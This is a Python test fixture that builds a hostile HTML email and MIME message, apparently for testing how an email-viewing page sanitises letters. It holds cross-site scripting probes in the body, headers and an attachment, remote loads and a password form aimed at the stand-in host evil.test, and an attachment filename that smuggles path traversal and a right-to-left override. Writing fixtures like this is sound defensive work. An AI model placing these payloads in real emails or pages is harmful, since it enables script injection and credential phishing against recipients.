"""Letters that mean harm, for the pages that show letters (S13).

Public: HOSTILE, HOSTILE_HTML.
"""

from __future__ import annotations

HOSTILE_HTML = """<!doctype html><html><head><title></title><script>alert(document.domain)</script>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<link rel="stylesheet" href="https://evil.test/style.css"><link rel="preconnect" href="https://evil.test">
<style>@import "https://evil.test/import.css"; p { background: url(https://evil.test/background.png) }
</style></head><body onload="alert(1)">
<p style="color: blue">Hello <a href="https://shop.test/order?a=1&amp;b=2" target="_top">order</a>
<a href="javascript:alert(1)">run</a></p>
<img src="https://evil.test/pixel.gif" onerror="alert(1)"><img src="cid:logo@shop" alt="logo">
<svg onload=alert(1)>
<form action="https://evil.test/form"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object>
<video poster="https://evil.test/poster.png" src="https://evil.test/v.mp4" autoplay></video>
</body></html>"""

HOSTILE = (
    'From: "<script>alert(1)</script>" <a@shop.test>\r\n'
    "Subject: <img src=x onerror=alert(1)>\r\n"
    'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    "--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n"
    "--c\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n</pre><script>alert(2)</script>\r\n"
    f"--c\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{HOSTILE_HTML}\r\n--c--\r\n"
    "--b\r\nContent-Type: image/png\r\nContent-ID: <logo@shop>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    "AAEC\r\n"
    "--b\r\nContent-Type: text/html; name=x\r\nContent-Disposition: attachment; "
    "filename*=utf-8''..%2F%E2%80%AEfdp.%3Cb%3Eexe%22%3Bx%3D%22y\r\n\r\n<script>alert(3)</script>\r\n--b--\r\n"
).encode()
